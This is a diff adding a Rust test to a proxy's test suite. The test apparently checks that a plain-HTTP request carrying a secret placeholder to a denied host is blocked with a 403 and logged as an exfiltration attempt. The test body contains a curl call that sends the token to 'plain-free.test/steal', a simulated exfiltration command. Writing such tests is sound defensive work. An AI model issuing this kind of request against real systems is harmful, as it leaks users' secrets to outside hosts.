@@ -58,3 +58,25 @@ async fn plain_http_to_other_hosts_is_denied_without_passthrough() {
         matches!(&h.events()[..], [ProxyEvent::Denied { host, .. }] if host == "plain-free.test")
     );
 }
+
+#[tokio::test]
+async fn plain_http_placeholder_to_a_denied_host_is_an_exfiltration_attempt() {
+    let h = Harness::start().await;
+    let ph = h.placeholder("plain/token").to_owned();
+    let out = h
+        .curl(&[&format!("http://plain-free.test/steal?t={ph}")])
+        .await;
+    assert_eq!(out.status, 403, "{out:?}");
+    assert_eq!(h.plain.seen.connections(), 0);
+    assert!(
+        matches!(
+            &h.events()[..],
+            [ProxyEvent::Blocked { host, secrets, reason, .. }]
+                if host == "plain-free.test"
+                    && secrets == &["plain/token".to_owned()]
+                    && reason.starts_with("exfiltration attempt")
+        ),
+        "{:?}",
+        h.events()
+    );
+}
